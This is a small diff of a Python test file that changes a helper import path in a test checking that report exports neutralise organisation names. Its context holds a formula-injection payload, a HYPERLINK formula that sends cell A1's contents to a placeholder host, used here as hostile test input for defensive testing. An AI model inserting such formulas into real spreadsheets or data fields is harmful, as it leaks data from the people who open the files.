@@ -72,7 +72,7 @@ def test_members_without_admin_rows_see_no_reports(member, exam, client_for):
 
 
 def test_report_exports_neutralise_organisation_names(exam, client_for, tree, editor):
-    from tests.dangke.test_exports import assert_neutralised, export_cells
+    from tests.helpers import assert_neutralised, export_cells
 
     hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")'
     tree["sub1"].name = hostile
